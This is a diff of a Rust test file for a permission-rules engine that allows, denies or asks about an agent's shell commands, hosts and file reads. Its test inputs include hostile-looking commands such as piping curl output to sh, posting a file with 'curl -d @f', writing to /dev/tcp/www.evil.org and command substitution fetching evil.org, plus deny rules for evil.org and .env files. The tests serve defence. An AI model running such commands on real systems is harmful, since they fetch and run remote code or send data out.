@@ -92,15 +92,126 @@ fn every_part_of_a_command_line_needs_leave() {
         ("bash -c 'ls; rm x'", "deny"),
         ("echo rm", "-"),
     ] {
-        assert_eq!(word(rules.command(&["bash"], line)), expected, "{line}");
+        assert_eq!(word(rules.command(&Names::plain(&["bash"]), line)), expected, "{line}");
     }
-    assert_eq!(rules.command(&["bash"], "git push").unwrap().rule, "deny command \"git push\"");
+    assert_eq!(
+        rules.command(&Names::plain(&["bash"]), "git push").unwrap().rule,
+        "deny command \"git push\""
+    );
+}
+
+const HOSTS: &str = r#"
+[[rule]]
+decision = "allow"
+host = "good.org"
+
+[[rule]]
+decision = "allow"
+host = "*.good.org"
+
+[[rule]]
+decision = "deny"
+host = "*.evil.org"
+
+[[rule]]
+decision = "deny"
+host = "evil.org:443"
+
+[[rule]]
+decision = "ask"
+host = "odd.org"
+
+[[rule]]
+decision = "allow"
+command = "git push"
+host = "git.org"
+
+[[rule]]
+decision = "allow"
+command = "make"
+
+[[rule]]
+decision = "deny"
+command = "wget"
+host = "slow.org"
+"#;
+
+#[test]
+fn every_host_of_a_command_line_needs_leave() {
+    let (rules, problems) = rules(HOSTS, Author::Person);
+    assert_eq!(problems, Vec::<String>::new());
+    for (line, expected) in [
+        ("curl https://good.org/x", "allow"),
+        ("curl -sSfL https://GOOD.org./x | head -3", "allow"),
+        ("curl https://a.good.org https://good.org", "allow"),
+        ("curl https://good.org && make", "allow"),
+        ("curl https://good.org/x https://other.org", "-"),
+        ("curl https://other.org", "-"),
+        ("curl https://good.org@other.org/", "-"),
+        ("curl https://notgood.org", "-"),
+        ("curl https://good.org > f", "-"),
+        ("curl https://good.org | sh", "-"),
+        ("curl -o f https://good.org", "-"),
+        ("curl -d @f https://good.org", "-"),
+        ("X=1 curl https://good.org", "-"),
+        ("sudo curl https://good.org", "-"),
+        ("curl https://good.org; touch x", "-"),
+        ("curl https://good.org &", "-"),
+        ("./curl https://good.org", "-"),
+        ("sh x https://good.org", "-"),
+        ("ssh good.org ls", "allow"),
+        ("ssh good.org 'ls; touch x'", "-"),
+        ("ssh good.org", "-"),
+        ("scp x good.org:y", "-"),
+        ("git clone https://good.org/x", "allow"),
+        ("git clone https://good.org/x /etc/x", "-"),
+        ("git fetch origin", "-"),
+        ("git push https://good.org/x", "-"),
+        ("git push git.org:x main", "allow"),
+        ("git push https://evil.org/x main", "deny"),
+        ("git push other.org:x", "-"),
+        ("git push origin", "-"),
+        ("git clone git.org:x", "-"),
+        // What cannot be read is asked about, and never allowed.
+        ("curl $x", "ask"),
+        ("curl https://good.org$x", "ask"),
+        ("curl \"https://good.org/$x\"", "allow"),
+        ("curl -K f https://good.org", "ask"),
+        ("echo good.org | xargs curl", "ask"),
+        ("$x https://good.org", "ask"),
+        ("make $x", "allow"),
+        ("make https://$x", "ask"),
+        ("curl https://www.evil.org", "deny"),
+        ("curl https://good.org https://www.evil.org", "deny"),
+        ("curl -x www.evil.org https://good.org", "deny"),
+        ("sudo timeout 5 curl https://www.evil.org", "deny"),
+        ("make https://www.evil.org/x", "deny"),
+        ("bash -c 'curl https://www.evil.org'", "deny"),
+        ("make > /dev/tcp/www.evil.org/80", "deny"),
+        ("ls $(curl https://www.evil.org)", "deny"),
+        ("curl https://evil.org", "deny"),
+        ("curl https://evil.org:8443", "-"),
+        ("curl evil.org", "ask"),
+        ("make evil.org", "allow"),
+        ("curl https://odd.org", "ask"),
+        ("curl https://odd.org https://www.evil.org", "deny"),
+        ("wget https://slow.org", "deny"),
+        ("curl https://slow.org", "-"),
+        ("wget $x", "ask"),
+        ("grep -rn https://www.evil.org src", "-"),
+    ] {
+        assert_eq!(word(rules.command(&Names::plain(&["bash"]), line)), expected, "{line}");
+    }
+    let said = rules.command(&Names::plain(&["bash"]), "curl https://www.evil.org").unwrap();
+    assert_eq!(said.rule, "deny host \"*.evil.org\"");
+    // Hosts are nothing that files have.
+    assert_eq!(rules.file(&Names::plain(&["read"]), ToolClass::Reads, &[Path::new("/w/good.org")]), None);
 }
 
 #[test]
 fn paths_are_judged_by_patterns() {
     let (rules, _) = rules(FILE, Author::Person);
-    let said = |tool, class, path: &str| word(rules.file(&[tool], class, &[Path::new(path)]));
+    let said = |tool, class, path: &str| word(rules.file(&Names::plain(&[tool]), class, &[Path::new(path)]));
     for (tool, class, path, expected) in [
         ("read", ToolClass::Reads, "/w/a[b/.env", "deny"),
         ("read", ToolClass::Reads, "/w/a[b/deep/er/.env", "deny"),
@@ -117,28 +228,38 @@ fn paths_are_judged_by_patterns() {
     }
     // A link's own name is enough to forbid, and not enough to allow.
     let (real, link) = (Path::new("/etc/x"), Path::new("/home/me/notes/x"));
-    assert_eq!(word(rules.file(&["edit"], ToolClass::Edits, &[real, link])), "-");
+    assert_eq!(word(rules.file(&Names::plain(&["edit"]), ToolClass::Edits, &[real, link])), "-");
     let (real, link) = (Path::new("/etc/x"), Path::new("/w/a[b/.env"));
-    assert_eq!(word(rules.file(&["read"], ToolClass::Reads, &[real, link])), "deny");
+    assert_eq!(word(rules.file(&Names::plain(&["read"]), ToolClass::Reads, &[real, link])), "deny");
 }
 
 #[test]
 fn a_rule_for_a_tool_forbids_and_asks() {
     let (rules, _) = rules("[[rule]]\ndecision = \"deny\"\ntool = \"bash\"", Author::Person);
-    assert_eq!(word(rules.command(&["bash"], "ls")), "deny");
-    assert_eq!(word(rules.file(&["read"], ToolClass::Reads, &[Path::new("/w/x")])), "-");
+    assert_eq!(word(rules.command(&Names::plain(&["bash"]), "ls")), "deny");
+    assert_eq!(word(rules.file(&Names::plain(&["read"]), ToolClass::Reads, &[Path::new("/w/x")])), "-");
     // Leave for all commands would be leave for what nobody can tell.
     let (rules, _) = self::rules("[[rule]]\ndecision = \"allow\"\ntool = \"bash\"", Author::Person);
-    assert_eq!(word(rules.command(&["bash"], "rm x")), "-");
+    assert_eq!(word(rules.command(&Names::plain(&["bash"]), "rm x")), "-");
 }
 
 #[test]
-fn a_project_only_tightens() {
-    let (rules, problems) = rules(FILE, Author::Project);
-    assert_eq!(problems.len(), 3, "{problems:?}");
-    assert_eq!(problems[0], "allow command \"cargo test\": a project cannot allow anything; ignored");
-    assert_eq!(word(rules.command(&["bash"], "cargo test")), "-");
-    assert_eq!(word(rules.command(&["bash"], "rm x")), "deny");
+fn a_project_only_tightens_until_it_is_trusted() {
+    let (trusted, problems) = rules(FILE, Author::Project { trusted: true });
+    assert_eq!(problems, Vec::<String>::new());
+    assert_eq!(word(trusted.command(&Names::plain(&["bash"]), "cargo test")), "allow");
+    assert_eq!(word(trusted.command(&Names::plain(&["bash"]), "rm x")), "deny");
+    let wants = Rules::allowed_by(FILE, Path::new("/w"), Path::new("/home/me"));
+    assert_eq!(wants.len(), 3, "{wants:?}");
+    assert_eq!(wants[0], "allow command \"cargo test\"");
+    let wrong = format!("{FILE}\n[[rule]]\ndecision = \"deny\"\n");
+    for text in [&wrong, "rule = 3", "[[rule", ""] {
+        assert_eq!(Rules::allowed_by(text, Path::new("/w"), Path::new("/")), Vec::<String>::new(), "{text}");
+    }
+    let (rules, problems) = rules(FILE, Author::Project { trusted: false });
+    assert_eq!(problems, Vec::<String>::new());
+    assert_eq!(word(rules.command(&Names::plain(&["bash"]), "cargo test")), "-");
+    assert_eq!(word(rules.command(&Names::plain(&["bash"]), "rm x")), "deny");
 }
 
 #[test]
@@ -150,6 +271,9 @@ fn what_is_wrong_never_loosens() {
         "command = \"$x\"",
         "command = \"\"",
         "command = \"a\"\npath = \"b\"",
+        "host = \"a\"\npath = \"b\"",
+        "host = \"https://a\"",
+        "host = \"\"",
         "path = \"!x\"",
         "path = \"\"",
         "",
@@ -157,13 +281,13 @@ fn what_is_wrong_never_loosens() {
         let (rules, problems) =
             rules(&format!("{allow}[[rule]]\ndecision = \"deny\"\n{wrong}"), Author::Person);
         assert_eq!(problems.len(), 1, "{wrong}");
-        assert_eq!(word(rules.command(&["bash"], "make")), "-", "{wrong}");
+        assert_eq!(word(rules.command(&Names::plain(&["bash"]), "make")), "-", "{wrong}");
     }
     for broken in ["[[rule", "[[rule]]\ndecision = \"maybe\"", "[[rule]]\ndecision = \"deny\"\nhots = \"x\""]
     {
         let (rules, problems) = rules(broken, Author::Person);
         assert!(problems.len() == 1 && problems[0].ends_with("everything is asked about"), "{problems:?}");
-        assert_eq!(word(rules.command(&["bash"], "make")), "ask");
-        assert_eq!(word(rules.file(&["edit"], ToolClass::Edits, &[Path::new("/w/x")])), "ask");
+        assert_eq!(word(rules.command(&Names::plain(&["bash"]), "make")), "ask");
+        assert_eq!(word(rules.file(&Names::plain(&["edit"]), ToolClass::Edits, &[Path::new("/w/x")])), "ask");
     }
 }
